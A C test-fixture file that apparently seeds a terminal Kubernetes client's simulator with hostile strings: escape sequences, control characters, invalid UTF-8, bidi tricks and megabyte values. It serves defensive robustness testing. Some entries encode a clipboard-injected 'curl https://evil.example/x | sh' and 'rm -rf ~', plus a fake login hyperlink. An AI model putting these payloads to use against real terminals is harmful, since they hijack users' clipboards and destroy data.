/*
 * sim-hostile.c: the "hostile" scenario's extra objects (on top of the
 * demo world): strings a server may hand a client that draws them on a
 * terminal. Names stay valid Kubernetes names; the hostile text sits in
 * what the server does not validate or validates loosely: annotations,
 * labels (a real server would refuse these values, a client must not
 * rely on it), condition and event messages, event reasons, secret
 * values and types, ClusterClass variable descriptions and enums.
 *
 * Covered: terminal escape sequences (ED "ESC[2J", OSC 52 clipboard
 * writes, OSC 8 hyperlinks, CSI with huge or many parameters, DCS, the
 * 8-bit C1 forms, title changes), C0 and C1 control characters, invalid
 * UTF-8 (the server sends it as \ufffd, sim-json.c), bidi overrides,
 * zero-width and combining characters, wide CJK, emoji with ZWJ and
 * flags, U+2028/2029, and megabyte strings (a 1 MiB annotation, a 1 MiB
 * condition message, a 1 MiB secret value; a real server caps
 * annotations at 256 KiB in total, a client must not rely on that
 * either). Everything is in namespace tenant-a (so the tenant persona
 * sees it) and in one cluster-scoped Namespace "hostile".
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "scs/util.h"
#include "sim-world.h"

#define D	86400
#define MIB	(1024 * 1024)

/* One hostile string per entry: annotation key suffix, text. */
static const struct {
	const char	*key;
	const char	*text;
} hostile[] = {
	{ "clear-screen",	"\x1b[2J\x1b[H\x1b[3Jscreen cleared" },
	{ "osc52-clipboard",	"copy \x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2gK\x07 done" },
	{ "osc52-st",		"\x1b]52;p;cm0gLXJmIH4K\x1b\\" },
	{ "osc8-link",		"\x1b]8;;https://evil.example/login\x1b\\click here\x1b]8;;\x1b\\" },
	{ "title",		"\x1b]0;root@prod: rm -rf /\x07\x1b]2;owned\x1b\\" },
	{ "csi-huge",		"\x1b[99999999999999999999;99999999999999999999H"
				"\x1b[4294967295@\x1b[2147483648L\x1b[999999999b" },
	{ "csi-private",	"\x1b[?1049h\x1b[?25l\x1b[?1000h\x1b[?2004h\x1b[6n\x1b[>c\x1b[c" },
	{ "dcs",		"\x1bP+q544e\x1b\\\x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\" },
	{ "sgr",		"\x1b[5;7;8;38;5;196;48;2;0;0;0mhidden\x1b[0m\x1b(0lqqk\x1b(B" },
	{ "c0",			"a\x01" "b\x02" "c\x03" "d\x04" "e\x05" "f\x06" "g\x07"
				"h\x08" "i\x0b" "j\x0c" "k\x0e" "l\x0f" "m\x10" "n\x11"
				"o\x12" "p\x13" "q\x14" "r\x15" "s\x16" "t\x17" "u\x18"
				"v\x19" "w\x1a" "x\x1c" "y\x1d" "z\x1e" "!\x1f" "?\x7f" },
	{ "cr-lf-tab",		"line one\r\nline two\rOVERWRITE\n\ttabbed\t\tcells\b\b\bXX" },
	{ "c1-utf8",		"\xc2\x9b" "2J\xc2\x9d" "52;c;eA==\xc2\x9c \xc2\x85nel \xc2\x90" "dcs\xc2\x9c" },
	{ "c1-8bit",		"\x9b" "2J \x9d" "0;title\x9c \x90q\x9c \x85" },
	{ "invalid-utf8",	"bad \xff\xfe overlong \xc0\xaf \xe0\x80\xaf surrogate \xed\xa0\x80 "
				"truncated \xe2\x82 big \xf4\x90\x80\x80 lone \x80\xbf end" },
	{ "bidi",		"invoice\xe2\x80\xae" "fdp.exe \xe2\x81\xa6" "isolate\xe2\x81\xa9 "
				"\xe2\x80\x8f" "rlm \xe2\x80\xad" "lro \xe2\x80\xab" "rle\xe2\x80\xac" },
	{ "zero-width",		"ze\xe2\x80\x8bro\xe2\x80\x8c" "wi\xe2\x80\x8d" "dth\xef\xbb\xbf"
				"\xe2\x81\xa0" "joiner\xe1\xa0\x8e" "end" },
	{ "combining",		"Z\xcc\x8d\xcc\x91\xcc\x88\xcc\x81\xcd\x86\xcc\x9a\xcc\x80\xcc\x82\xcc\x83"
				"\xcc\x84\xcc\x85\xcc\x86\xcc\x87\xcc\x88\xcc\x89\xcc\x8a\xcc\x8b\xcc\x8c"
				"a\xcd\xa0\xcd\xa1\xcd\xa2lgo" },
	{ "cjk-wide",		"\xe9\x9b\x86\xe7\xbe\xa4\xe7\x8a\xb6\xe6\x85\x8b\xe7\x95\xb0\xe5\xb8\xb8 "
				"\xe3\x82\xaf\xe3\x83\xa9\xe3\x82\xb9\xe3\x82\xbf\xe3\x83\xbc "
				"\xef\xbc\xa6\xef\xbd\x95\xef\xbd\x8c\xef\xbd\x8c\xef\xbd\x97\xef\xbd\x89\xef\xbd\x84\xef\xbd\x94\xef\xbd\x88 "
				"\xed\x81\xb4\xeb\x9f\xac\xec\x8a\xa4\xed\x84\xb0" },
	{ "emoji",		"\xf0\x9f\x94\xa5\xf0\x9f\x92\xa5 \xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x91\xa9"
				"\xe2\x80\x8d\xf0\x9f\x91\xa7\xe2\x80\x8d\xf0\x9f\x91\xa6 \xf0\x9f\x87\xa9"
				"\xf0\x9f\x87\xaa \xf0\x9f\x91\x8d\xf0\x9f\x8f\xbf \xe2\x9d\xa4\xef\xb8\x8f "
				"\xf0\x9f\x8f\xb3\xef\xb8\x8f\xe2\x80\x8d\xf0\x9f\x8c\x88" },
	{ "separators",		"para\xe2\x80\xa8line\xe2\x80\xa9" "sep<script>&amp;</script>" },
	{ "noncharacters",	"\xef\xbf\xbf\xef\xbf\xbe\xef\xb7\x90\xf4\x8f\xbf\xbf\xef\xbf\xbd" },
	{ "private-use",	"\xee\x80\x80\xf3\xb0\x80\x80\xef\xa3\xbf" },
};
#define NHOSTILE	(sizeof hostile / sizeof hostile[0])

static void
put(struct sim_db *db, uint64_t *rng, const char *res, cJSON *o)
{
	char	 uid[40];

	sim_uid(rng, uid, sizeof uid);
	sim_set_str(o, "metadata.uid", uid);
	sim_db_put(db, res, o);
}

/* A string of len bytes: a hostile pattern repeated, cut at a UTF-8
 * boundary (the pattern mixes escapes, wide and invalid bytes). */
static char *
huge(size_t len, const char *pattern)
{
	char	*s = scs_xmalloc(len + 1);
	size_t	 n = strlen(pattern), off = 0;

	while (off + n <= len) {
		memcpy(s + off, pattern, n);
		off += n;
	}
	memset(s + off, 'x', len - off);
	s[len] = '\0';
	return (s);
}

/* "\x1b[1;1;1;...;1m": one CSI with many parameters. */
static char *
csi_many(size_t nparams)
{
	char	*s = scs_xmalloc(2 * nparams + 16);
	size_t	 i, off = 0;

	s[off++] = '\x1b';
	s[off++] = '[';
	for (i = 0; i < nparams; i++) {
		s[off++] = '1';
		s[off++] = ';';
	}
	s[off++] = 'm';
	memcpy(s + off, "after", 6);
	return (s);
}

static void
annotate_all(cJSON *o)
{
	char	 key[128];
	size_t	 i;

	for (i = 0; i < NHOSTILE; i++) {
		snprintf(key, sizeof key, "hostile.scs.community/%s",
		    hostile[i].key);
		sim_annotate(o, key, hostile[i].text);
	}
}

static cJSON *
cluster(const char *name, int64_t created)
{
	cJSON	*o = sim_obj_new(SIM_CAPI, "Cluster", "tenant-a", name, created);

	sim_set_int(o, "metadata.generation", 1);
	sim_set_str(o, "spec.topology.classRef.name", "hostile-class");
	sim_set_str(o, "spec.topology.classRef.namespace", "tenant-a");
	sim_set_str(o, "spec.topology.version", "v1.36.2");
	sim_set_int(o, "spec.topology.controlPlane.replicas", 1);
	/* The reconcile loop leaves these alone. */
	sim_annotate(o, SIM_STATIC_ANNOTATION, "true");
	return (o);
}

static void
failed_status(cJSON *o, const char *msg, int64_t now)
{
	struct sim_cstat	 s;

	memset(&s, 0, sizeof s);
	s.phase = "Provisioning";
	s.cp_desired = 1;
	s.w_desired = 1;
	s.fail = msg;
	sim_cluster_status(o, &s, now);
}

static void
event(struct sim_db *db, uint64_t *rng, int64_t now, const char *name,
    const char *reason, const char *msg, size_t i)
{
	cJSON	*o;
	char	 ename[256], ts[32];

	snprintf(ename, sizeof ename, "%s.hostile%02zu", name, i);
	o = sim_obj_new("v1", "Event", "tenant-a", ename, now - 3600);
	sim_set_str(o, "involvedObject.kind", "Cluster");
	sim_set_str(o, "involvedObject.name", name);
	sim_set_str(o, "involvedObject.namespace", "tenant-a");
	sim_set_str(o, "involvedObject.apiVersion", SIM_CAPI);
	cJSON_AddStringToObject(o, "type", i % 2 ? "Warning" : "Normal");
	cJSON_AddStringToObject(o, "reason", reason);
	cJSON_AddStringToObject(o, "message", msg);
	cJSON_AddNumberToObject(o, "count", 1 + i);
	scs_format_rfc3339(now - 60 * (int64_t)i, ts, sizeof ts);
	cJSON_AddStringToObject(o, "lastTimestamp", ts);
	cJSON_AddStringToObject(o, "firstTimestamp", ts);
	sim_set_str(o, "source.component", hostile[i % NHOSTILE].text);
	put(db, rng, SIM_EVENTS, o);
}

/* A clouds.yaml (YAML escapes: ESC, BEL, C1 CSI, bidi, zero width)
 * whose every shown field is hostile and whose secrets are marked
 * SIMULATED- (the tests look for them on screens and in logs). */
static const char cloud_yaml[] =
    "clouds:\n"
    "  openstack:\n"
    "    auth:\n"
    "      auth_url: \"https://admin:SIMULATED-url-password@\\e[2J\\e]52;c;"
    "eA==\\akeystone.\\u202eevil\\u200b.example:5000/v3\"\n"
    "      username: admin\n"
    "      password: SIMULATED-hostile-password\n"
    "      application_credential_secret: \"SIMULATED-\\e[2Jsecret\"\n"
    "      project_name: \"\\e]0;owned\\aproj\\x9b2Ject\"\n"
    "      user_domain_name: \"\\u202edomain\\e[?1049h\"\n"
    "    region_name: \"\\e[31mRegion\\x07One\\u2028next\"\n";

static const char cloud_garbage[] =
    "\x00\xff\x1b[2J clouds: [ SIMULATED-garbage: {";

static cJSON *
secret_new(const char *name, const char *type, int64_t created)
{
	cJSON	*o = sim_obj_new("v1", "Secret", "tenant-a", name, created);

	cJSON_AddStringToObject(o, "type", type);
	cJSON_AddObjectToObject(o, "data");
	return (o);
}

static void
secret_add(cJSON *o, const char *key, const char *value, size_t len)
{
	char	*b64 = scs_base64_encode(value, len);

	cJSON_AddStringToObject(cJSON_GetObjectItem(o, "data"), key, b64);
	free(b64);
}

static void
hostile_class(struct sim_db *db, uint64_t *rng, int64_t now)
{
	cJSON	*o, *vars, *v, *sch, *en, *sv, *d;
	char	 name[64];
	size_t	 i;

	o = sim_obj_new(SIM_CAPI, "ClusterClass", "tenant-a", "hostile-class",
	    now - 5 * D);
	sim_set_int(o, "metadata.generation", 1);
	annotate_all(o);
	sim_annotate(o, "description", hostile[0].text);
	vars = cJSON_AddArrayToObject(sim_path(o, "spec"), "variables");
	for (i = 0; i < NHOSTILE; i++) {
		snprintf(name, sizeof name, "hostile%02zu", i);
		v = cJSON_CreateObject();
		cJSON_AddStringToObject(v, "name", name);
		cJSON_AddBoolToObject(v, "required", 0);
		sch = sim_path(v, "schema.openAPIV3Schema");
		cJSON_AddStringToObject(sch, "type", "string");
		cJSON_AddStringToObject(sch, "description", hostile[i].text);
		cJSON_AddStringToObject(sch, "default", hostile[i].text);
		cJSON_AddStringToObject(sch, "example", hostile[i].text);
		en = cJSON_AddArrayToObject(sch, "enum");
		cJSON_AddItemToArray(en, cJSON_CreateString(hostile[i].text));
		cJSON_AddItemToArray(en, cJSON_CreateString("plain"));
		cJSON_AddItemToArray(vars, v);
	}
	d = cJSON_AddArrayToObject(sim_path(o, "status"), "variables");
	cJSON_ArrayForEach(v, vars) {
		sv = cJSON_CreateObject();
		cJSON_AddStringToObject(sv, "name", sim_get_str(v, "name"));
		sch = cJSON_CreateObject();
		cJSON_AddStringToObject(sch, "from", "inline");
		cJSON_AddBoolToObject(sch, "required", 0);
		cJSON_AddItemToObject(sch, "schema", cJSON_Duplicate(
		    sim_get(v, "schema"), 1));
		cJSON_AddItemToArray(cJSON_AddArrayToObject(sv, "definitions"),
		    sch);
		cJSON_AddItemToArray(d, sv);
	}
	sim_set_int(o, "status.observedGeneration", 1);
	sim_cond(o, "VariablesReady", "False", "\x1b[2JVariablesReconcileFailed",
	    hostile[1].text, now - D);
	put(db, rng, SIM_CLASSES, o);
}

void
sim_scenario_hostile(struct sim_db *db, uint64_t *rng, int64_t now)
{
	cJSON	*o, *labels;
	char	*big, *many, name[300];
	size_t	 i;

	/* A cluster-scoped object with the whole set. */
	o = sim_obj_new("v1", "Namespace", NULL, "hostile", now - 10 * D);
	sim_label(o, "kubernetes.io/metadata.name", "hostile");
	sim_label(o, "scs.community/tenant", "\x1b[2Jtenant\x07");
	annotate_all(o);
	sim_set_str(o, "status.phase", "Active\x1b[31m");
	put(db, rng, SIM_NAMESPACES, o);

	hostile_class(db, rng, now);

	/* Every hostile string as an annotation, a label and in the
	 * Ready condition (through the failure message). */
	o = cluster("hostile-annotations", now - 4 * D);
	annotate_all(o);
	labels = sim_path(o, "metadata.labels");
	for (i = 0; i < NHOSTILE; i++)
		cJSON_AddStringToObject(labels, hostile[i].key,
		    hostile[i].text);
	sim_label(o, "\x1b]52;c;eA==\x07key", "value");
	failed_status(o, hostile[0].text, now - 3 * D);
	put(db, rng, SIM_CLUSTERS, o);

	/* One cluster per hostile string in its condition messages. */
	for (i = 0; i < NHOSTILE; i++) {
		snprintf(name, sizeof name, "hostile-%s", hostile[i].key);
		o = cluster(name, now - 3 * D);
		failed_status(o, hostile[i].text, now - 2 * D);
		sim_cond(o, "RemoteConnectionProbe", "False",
		    "\xe2\x80\xae" "ProbeFailed", hostile[i].text, now - D);
		put(db, rng, SIM_CLUSTERS, o);
		event(db, rng, now, name, hostile[(i + 1) % NHOSTILE].text,
		    hostile[i].text, i);
	}

	/* Long strings. */
	big = huge(MIB, "\x1b[2J\xe9\x9b\x86\xf0\x9f\x94\xa5\xe2\x80\xae\xff");
	o = cluster("hostile-huge-annotation", now - 2 * D);
	sim_annotate(o, "hostile.scs.community/one-mib", big);
	put(db, rng, SIM_CLUSTERS, o);
	o = cluster("hostile-huge-message", now - 2 * D);
	failed_status(o, big, now - D);
	put(db, rng, SIM_CLUSTERS, o);
	event(db, rng, now, "hostile-huge-message", "HugeMessage", big, 99);
	many = csi_many(100000);
	o = cluster("hostile-csi-many-params", now - 2 * D);
	sim_annotate(o, "hostile.scs.community/csi-many", many);
	failed_status(o, many, now - D);
	put(db, rng, SIM_CLUSTERS, o);
	free(many);
	/* The longest legal names: 63 for a cluster, 253 for a secret. */
	memset(name, 0, sizeof name);
	memcpy(name, "hostile-", 8);
	memset(name + 8, 'w', 63 - 8);
	o = cluster(name, now - D);
	put(db, rng, SIM_CLUSTERS, o);

	/* Secrets: hostile values, a hostile type, binary, a 1 MiB value. */
	o = secret_new("hostile-values", "Opaque", now - 6 * D);
	for (i = 0; i < NHOSTILE; i++)
		secret_add(o, hostile[i].key, hostile[i].text,
		    strlen(hostile[i].text));
	secret_add(o, "binary", "\x00\x01\x02\xff\xfe\x1b[2J\x00", 10);
	secret_add(o, "one-mib", big, MIB);
	put(db, rng, SIM_SECRETS, o);
	o = secret_new("hostile-type", "\x1b]52;c;eA==\x07kubernetes.io/"
	    "\xe2\x80\xae" "tls", now - 6 * D);
	secret_add(o, "tls.crt", "-----BEGIN \x1b[2J CERTIFICATE-----", 33);
	annotate_all(o);
	put(db, rng, SIM_SECRETS, o);
	/* Credentials whose clouds.yaml points at a hostile cloud (the
	 * Secret picker shows host, region, project and domain), with a
	 * password in the URL and secret values that must never show; and
	 * one whose clouds.yaml is no YAML. */
	o = secret_new("hostile-cloud", "Opaque", now - 5 * D);
	secret_add(o, "clouds.yaml", cloud_yaml, strlen(cloud_yaml));
	secret_add(o, "cloudName", "openstack", 9);
	put(db, rng, SIM_SECRETS, o);
	o = secret_new("hostile-cloud-garbage", "Opaque", now - 5 * D);
	secret_add(o, "clouds.yaml", cloud_garbage, sizeof cloud_garbage - 1);
	put(db, rng, SIM_SECRETS, o);
	memset(name, 0, sizeof name);
	memcpy(name, "hostile-", 8);
	memset(name + 8, 's', 253 - 8);
	o = secret_new(name, "Opaque", now - D);
	secret_add(o, "k", "v", 1);
	put(db, rng, SIM_SECRETS, o);
	free(big);
}
